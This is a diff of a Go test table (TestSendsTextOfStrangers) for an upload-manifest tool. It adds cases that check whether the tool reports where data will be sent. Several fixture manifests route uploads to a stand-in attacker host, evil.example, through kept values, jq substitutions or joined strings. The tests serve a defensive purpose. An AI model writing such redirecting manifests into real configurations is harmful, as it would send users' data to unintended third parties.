@@ -63,6 +63,8 @@ func TestSendsTextOfStrangers(t *testing.T) {
 		create + `presign: {send: POST /p, urls: '.u[] | sub("^"; "https://evil.example/")'}` + "\npart: {send: PUT, receipt: .e}":                                                 "URLs that the manifest makes of the API's replies and https://evil.example",
 		create + `presign: {send: POST /p, urls: .u}` + "\npart: {send: PUT, auth: true, receipt: .e}":                                                                             "https://api.example",
 		`create: {send: POST /u, keep: '{id, to: "https://evil.example/x"}'}` + "\npart: {send: PUT, url: $upload.to, receipt: .e}":                                                "https://evil.example",
+		`create: {send: POST /u, keep: '{id} + {to: "https://evil.example/x"}'}` + "\npart: {send: PUT, url: $upload.to, receipt: .e}":                                             "https://evil.example",
+		`create: [{send: POST /u, keep: 'capture("<(?<id>.*)>")'}, {send: POST /v, keep: '{to}'}]` + "\npart: {send: PUT, url: $upload.to, receipt: .e}":                           gives,
 		`create: {send: POST /u, keep: '{id, to: $upload.at, at: $upload.to}'}` + "\npart: {send: PUT, url: $upload.to, receipt: .e}":                                              gives,
 		`options: {to: {type: string, default: "https://opt.example/a", help: x}}` + "\n" + create + "part: {send: PUT, url: $options.to, receipt: .e}":                            "https://opt.example and the URL in the option to",
 		create + `part: {send: PUT, url: '["https:", "", "evil.example"] | join("/")', receipt: .e}`:                                                                               "URLs that the manifest computes",
